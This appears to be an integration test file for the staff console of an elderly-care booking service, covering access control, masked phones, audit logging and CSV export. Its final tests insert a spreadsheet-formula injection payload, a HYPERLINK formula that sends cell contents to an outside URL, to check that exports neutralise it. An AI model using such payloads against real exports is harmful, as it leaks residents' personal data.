import { and, eq } from "drizzle-orm";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { auditLog, persons, roleGrants } from "../../db/schema";
import {
  call,
  createAccount,
  createCommunity,
  createManagedPerson,
  createOrganisation,
  db,
  grantRole,
  json,
  lastSms,
  randomPhone,
  type TestAccount,
} from "../factories";

let staff: TestAccount;
let otherStaff: TestAccount;
let resident: TestAccount;
let offeringId: string;
let organisationId: string;
let slotId: string;
let bookingId: string;

function shanghaiToday(): string {
  return new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 10);
}

beforeAll(async () => {
  const org = await createOrganisation("elderly_centre");
  organisationId = org;
  staff = await createAccount();
  await grantRole(staff.id, "org_staff", { organisationId: org });
  otherStaff = await createAccount();
  await grantRole(otherStaff.id, "org_staff", { organisationId: await createOrganisation("elderly_centre") });
  const offering = await json<{ id: string }>(
    await call("/api/offerings", { cookie: staff.cookie, body: { organisationId: org, kind: "care", title: "助浴" } }),
  );
  offeringId = offering.id;
  // Late today (Shanghai), so the slot is both "today" and still ahead.
  const start = Math.max(Date.now() + 60_000, Date.parse(`${shanghaiToday()}T23:00:00+08:00`));
  const slot = await json<{ id: string }>(
    await call(`/api/offerings/${offeringId}/slots`, {
      cookie: staff.cookie,
      body: { startsAt: start, endsAt: start + 30 * 60_000, capacity: 4 },
    }),
  );
  slotId = slot.id;
  resident = await createAccount({ name: "周桂芳" });
  const booking = await json<{ id: string }>(
    await call("/api/bookings", { cookie: resident.cookie, body: { slotId, personId: resident.personId } }),
  );
  bookingId = booking.id;
});

describe("staff console", () => {
  it("lists today's slots of my organisation with fill level, not another's", async () => {
    const mine = await json<{ slots: Array<{ id: string; taken: number; capacity: number }> }>(
      await call("/api/staff/slots", { cookie: staff.cookie }),
    );
    const slot = mine.slots.find((s) => s.id === slotId);
    if (new Date(Date.now() + 8 * 3_600_000).getUTCHours() < 23) expect(slot).toMatchObject({ taken: 1, capacity: 4 });
    const theirs = await json<{ slots: Array<{ id: string }> }>(
      await call("/api/staff/slots", { cookie: otherStaff.cookie }),
    );
    expect(theirs.slots.map((s) => s.id)).not.toContain(slotId);
    expect((await call("/api/staff/slots", { cookie: resident.cookie })).status).toBe(403);
    expect((await call("/api/staff/slots?date=2026-13-01", { cookie: staff.cookie })).status).toBe(400);
    // Asking for another organisation's day by its id: 404, as for any of its records.
    const asked = await call(`/api/staff/slots?organisationId=${organisationId}`, { cookie: otherStaff.cookie });
    expect(asked.status).toBe(404);
    expect(await json(asked)).toMatchObject({ error: { code: "NOT_FOUND" } });
  });

  it("reveals a booked person's phone to the organisation's staff only, and audits it", async () => {
    const res = await call(`/api/bookings/${bookingId}/reveal-phone`, { method: "POST", cookie: staff.cookie });
    expect(res.status).toBe(200);
    expect(await json(res)).toEqual({ phone: resident.phone });
    const audits = await db().select().from(auditLog).where(eq(auditLog.subjectId, bookingId));
    expect(audits.map((a) => a.action)).toContain("booking.reveal_phone");
    const list = await json<{ bookings: Array<{ phoneMasked: string }> }>(
      await call(`/api/slots/${slotId}/bookings`, { cookie: staff.cookie }),
    );
    expect(list.bookings[0]?.phoneMasked).toBe(`${resident.phone.slice(0, 3)}****${resident.phone.slice(7)}`);
    expect(
      (await call(`/api/bookings/${bookingId}/reveal-phone`, { method: "POST", cookie: otherStaff.cookie })).status,
    ).toBe(404);
    expect(
      (await call(`/api/bookings/${bookingId}/reveal-phone`, { method: "POST", cookie: resident.cookie })).status,
    ).toBe(403);
  });

  it("finds a caller by exact name and the last four digits only", async () => {
    const found = await json<{ persons: Array<{ id: string; phoneMasked: string }> }>(
      await call(
        `/api/staff/person-search?name=${encodeURIComponent("周桂芳")}&phoneLast4=${resident.phone.slice(-4)}`,
        {
          cookie: staff.cookie,
        },
      ),
    );
    expect(found.persons.map((p) => p.id)).toEqual([resident.personId]);
    expect(found.persons[0]?.phoneMasked).toContain("****");
    const wrong = await json<{ persons: unknown[] }>(
      await call(`/api/staff/person-search?name=${encodeURIComponent("周")}&phoneLast4=${resident.phone.slice(-4)}`, {
        cookie: staff.cookie,
      }),
    );
    expect(wrong.persons).toEqual([]);
    expect((await call("/api/staff/person-search?name=x", { cookie: staff.cookie })).status).toBe(400);
    expect((await call(`/api/staff/person-search?name=x&phoneLast4=1234`, { cookie: resident.cookie })).status).toBe(
      403,
    );
  });

  it("finds someone without a phone by exact name and birth year, never by name alone", async () => {
    const community = await createCommunity();
    const elder = await createManagedPerson(community, "无手机老人");
    await db().update(persons).set({ phone: null, birthDate: "1936-07-01" }).where(eq(persons.id, elder));
    const found = await json<{ persons: Array<{ id: string; birthYear: string }> }>(
      await call(`/api/staff/person-search?name=${encodeURIComponent("无手机老人")}&birthYear=1936`, {
        cookie: staff.cookie,
      }),
    );
    expect(found.persons).toEqual([expect.objectContaining({ id: elder, birthYear: "1936" })]);
    const wrongYear = await json<{ persons: unknown[] }>(
      await call(`/api/staff/person-search?name=${encodeURIComponent("无手机老人")}&birthYear=1937`, {
        cookie: staff.cookie,
      }),
    );
    expect(wrongYear.persons).toEqual([]);
    const both = `/api/staff/person-search?name=x&birthYear=1936&phoneLast4=1234`;
    expect((await call(both, { cookie: staff.cookie })).status).toBe(400);
  });

  it("by birth year finds only those without a phone, and every search is audited", async () => {
    const community = await createCommunity();
    const name = `有手机老人${Date.now() % 100_000}`;
    const withPhone = await createManagedPerson(community, name);
    const phone = randomPhone();
    await db().update(persons).set({ phone, birthDate: "1938-03-01" }).where(eq(persons.id, withPhone));
    const byYear = await json<{ persons: unknown[] }>(
      await call(`/api/staff/person-search?name=${encodeURIComponent(name)}&birthYear=1938`, { cookie: staff.cookie }),
    );
    expect(byYear.persons).toEqual([]);
    const byNumber = await json<{ persons: Array<{ id: string }> }>(
      await call(`/api/staff/person-search?name=${encodeURIComponent(name)}&phoneLast4=${phone.slice(-4)}`, {
        cookie: staff.cookie,
      }),
    );
    expect(byNumber.persons.map((p) => p.id)).toEqual([withPhone]);
    const audits = await db()
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "person.search"), eq(auditLog.actorAccountId, staff.id)));
    const mine = audits.filter((a) => (a.detail as { name?: string } | null)?.name === name);
    expect(mine.map((a) => a.detail)).toEqual([
      { name, birthYear: "1938", results: 0 },
      { name, phoneLast4: phone.slice(-4), results: 1 },
    ]);
  });

  it("books a walk-in after registering them as a managed person", async () => {
    const community = await createCommunity();
    const created = await call("/api/persons", {
      cookie: staff.cookie,
      body: { name: "马大爷", birthDate: "1940-02-02", communityId: community },
    });
    expect(created.status).toBe(201);
    const person = await json<{ id: string }>(created);
    const booked = await call("/api/bookings", {
      cookie: staff.cookie,
      body: { slotId, personId: person.id, channel: "walk_in" },
    });
    expect(booked.status).toBe(201);
    expect(await json(booked)).toMatchObject({ actorRole: "staff", channel: "walk_in", status: "confirmed" });
  });

  it("tells the person when staff cancel their booking", async () => {
    const other = await createAccount({ name: "吴老师" });
    const booking = await json<{ id: string }>(
      await call("/api/bookings", { cookie: other.cookie, body: { slotId, personId: other.personId } }),
    );
    const res = await call(`/api/bookings/${booking.id}/cancel`, { cookie: staff.cookie, body: {} });
    expect(res.status).toBe(200);
    const inbox = await json<{ notifications: Array<{ kind: string }> }>(
      await call("/api/notifications", { cookie: other.cookie }),
    );
    expect(inbox.notifications.map((n) => n.kind)).toContain("booking_cancelled_by_staff");
    expect(await lastSms(other.phone)).toContain("已由服务机构取消");
  });

  it("assigns a staff member of the organisation to a booking, tells them, audits it; others are 404", async () => {
    const colleague = await createAccount({ name: "护理员" });
    const org =
      (await db().select().from(roleGrants).where(eq(roleGrants.accountId, staff.id)))[0]?.organisationId ?? "";
    await grantRole(colleague.id, "org_staff", { organisationId: org });
    const res = await call(`/api/bookings/${bookingId}/assign`, {
      cookie: staff.cookie,
      body: { accountId: colleague.id },
    });
    expect(res.status).toBe(200);
    expect(await json(res)).toMatchObject({ id: bookingId, assignedAccountId: colleague.id });
    const inbox = await json<{ notifications: Array<{ kind: string }> }>(
      await call("/api/notifications", { cookie: colleague.cookie }),
    );
    expect(inbox.notifications.map((n) => n.kind)).toContain("booking_assigned");
    const audits = await db().select().from(auditLog).where(eq(auditLog.subjectId, bookingId));
    expect(audits.map((a) => a.action)).toContain("booking.assign");
    // Someone outside the organisation cannot be assigned, and other organisations' staff cannot assign.
    const assignOutsider = await call(`/api/bookings/${bookingId}/assign`, {
      cookie: staff.cookie,
      body: { accountId: otherStaff.id },
    });
    expect(assignOutsider.status).toBe(404);
    const byOther = await call(`/api/bookings/${bookingId}/assign`, {
      cookie: otherStaff.cookie,
      body: { accountId: otherStaff.id },
    });
    expect(byOther.status).toBe(404);
    expect((await call(`/api/bookings/${bookingId}/assign`, { cookie: staff.cookie, body: {} })).status).toBe(400);

    // The assignee is part of the booking from then on: for staff, and for the person served.
    const seen = await json(await call(`/api/bookings/${bookingId}`, { cookie: staff.cookie }));
    expect(seen).toMatchObject({ assignee: { accountId: colleague.id, name: "护理员" } });
    const asResident = await json(await call(`/api/bookings/${bookingId}`, { cookie: resident.cookie }));
    expect(asResident).toMatchObject({ assignee: { accountId: colleague.id, name: "护理员" } });
    const list = await json<{ bookings: Array<{ id: string; assignee: unknown }> }>(
      await call(`/api/slots/${slotId}/bookings`, { cookie: staff.cookie }),
    );
    expect(list.bookings.find((b) => b.id === bookingId)?.assignee).toEqual({
      accountId: colleague.id,
      name: "护理员",
    });
  });

  it("a refused assignment (the booking was cancelled) leaves no audit record and tells nobody", async () => {
    const colleague = await createAccount({ name: "护理员乙" });
    const org =
      (await db().select().from(roleGrants).where(eq(roleGrants.accountId, staff.id)))[0]?.organisationId ?? "";
    await grantRole(colleague.id, "org_staff", { organisationId: org });
    const other = await createAccount({ name: "郑阿姨" });
    const booking = await json<{ id: string }>(
      await call("/api/bookings", { cookie: other.cookie, body: { slotId, personId: other.personId } }),
    );
    expect((await call(`/api/bookings/${booking.id}/cancel`, { cookie: other.cookie, body: {} })).status).toBe(200);
    const res = await call(`/api/bookings/${booking.id}/assign`, {
      cookie: staff.cookie,
      body: { accountId: colleague.id },
    });
    expect(res.status).toBe(409);
    const audits = await db().select().from(auditLog).where(eq(auditLog.subjectId, booking.id));
    expect(audits.map((a) => a.action)).not.toContain("booking.assign");
    const inbox = await json<{ notifications: Array<{ kind: string }> }>(
      await call("/api/notifications", { cookie: colleague.cookie }),
    );
    expect(inbox.notifications).toEqual([]);
  });

  it("lists the organisation's staff by name (no phones) to its own staff only", async () => {
    const org =
      (await db().select().from(roleGrants).where(eq(roleGrants.accountId, staff.id)))[0]?.organisationId ?? "";
    const admin = await createAccount({ name: "白主任" });
    await grantRole(admin.id, "org_admin", { organisationId: org });
    await grantRole(admin.id, "org_staff", { organisationId: org });
    const res = await call(`/api/organisations/${org}/staff`, { cookie: staff.cookie });
    expect(res.status).toBe(200);
    const body = await json<{ staff: Array<{ accountId: string; name: string; role: string }> }>(res);
    expect(body.staff.filter((m) => m.accountId === admin.id)).toEqual([
      { accountId: admin.id, name: "白主任", role: "org_admin" },
    ]);
    expect(body.staff.map((m) => m.accountId)).toContain(staff.id);
    expect(JSON.stringify(body)).not.toContain(staff.phone);

    expect((await call(`/api/organisations/${org}/staff`, { cookie: otherStaff.cookie })).status).toBe(404);
    expect((await call(`/api/organisations/${org}/staff`, { cookie: resident.cookie })).status).toBe(403);
    expect((await call(`/api/organisations/${org}/staff`)).status).toBe(401);
    expect((await call(`/api/organisations/${org}/staff?x=1`, { cookie: staff.cookie })).status).toBe(400);
  });

  it("exports an offering's bookings as CSV with masked phones, for its organisation only", async () => {
    const res = await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: staff.cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith("booking_id,starts_at,person,phone")).toBe(true);
    expect(text).toContain("周桂芳");
    expect(text).not.toContain(resident.phone);
    expect((await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: otherStaff.cookie })).status).toBe(404);
    // Each export is on record, with its range; a backwards or over-long range is refused.
    const exports = await db()
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.subjectId, offeringId), eq(auditLog.action, "bookings.export")));
    expect(exports).toHaveLength(1);
    expect(exports[0]?.actorAccountId).toBe(staff.id);
    const csv = (query: string) => call(`/api/offerings/${offeringId}/bookings.csv?${query}`, { cookie: staff.cookie });
    expect((await csv("from=2026-03-02&to=2026-03-01")).status).toBe(400);
    expect((await csv("from=2025-01-01&to=2026-03-01")).status).toBe(400);
    expect((await csv("from=2026-01-01&to=2026-12-31")).status).toBe(200);
  });

  it("writes what residents typed as text, never as a spreadsheet formula", async () => {
    const typist = await createAccount({ name: "@钱大爷" });
    const notes = '=HYPERLINK("http://example.com/?"&C2&D2,"详情")';
    const res = await call("/api/bookings", {
      cookie: typist.cookie,
      body: { slotId, personId: typist.personId, notes },
    });
    expect(res.status).toBe(201);
    const text = await (await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: staff.cookie })).text();
    const [row] = Papa.parse<string[]>(text.replace(/^\uFEFF/, "").trim()).data.filter((r) => r.includes("'@钱大爷"));
    expect(row).toBeDefined();
    expect(row).toContain(`'${notes}`);
    expect(text).not.toMatch(/,=HYPERLINK/);
  });

  it("writes a formula on the first line of a multi-line note as text too", async () => {
    const typist = await createAccount({ name: "孔阿姨" });
    const notes = "=1+1\n需要轮椅";
    const res = await call("/api/bookings", {
      cookie: typist.cookie,
      body: { slotId, personId: typist.personId, notes },
    });
    expect(res.status).toBe(201);
    const text = await (await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: staff.cookie })).text();
    const [row] = Papa.parse<string[]>(text.replace(/^\uFEFF/, "").trim()).data.filter((r) => r.includes("孔阿姨"));
    expect(row).toContain(`'${notes}`);
    expect(row).not.toContain(notes);
  });
});
